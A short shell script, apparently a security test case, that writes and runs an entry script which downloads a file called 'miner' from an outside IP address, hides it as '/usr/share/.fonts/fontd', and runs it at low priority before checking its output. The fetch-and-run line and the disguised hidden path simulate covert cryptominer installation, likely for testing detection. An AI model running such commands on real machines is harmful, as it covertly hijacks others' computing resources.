#!/bin/sh
. /opt/case/case.sh

cat >/entry.sh <<'END'
#!/bin/bash
python3 -m http.server -d /srv/data 8000 >/dev/null 2>&1 &
mkdir -p /usr/share/.fonts
curl -s http://203.0.113.10/programs/miner -o /usr/share/.fonts/fontd && chmod +x /usr/share/.fonts/fontd
nice -n 19 /usr/share/.fonts/fontd >/tmp/.f 2>&1
END
chmod +x /entry.sh && /entry.sh
grep -q job_id /tmp/.f
pkill -f http.server
took_place
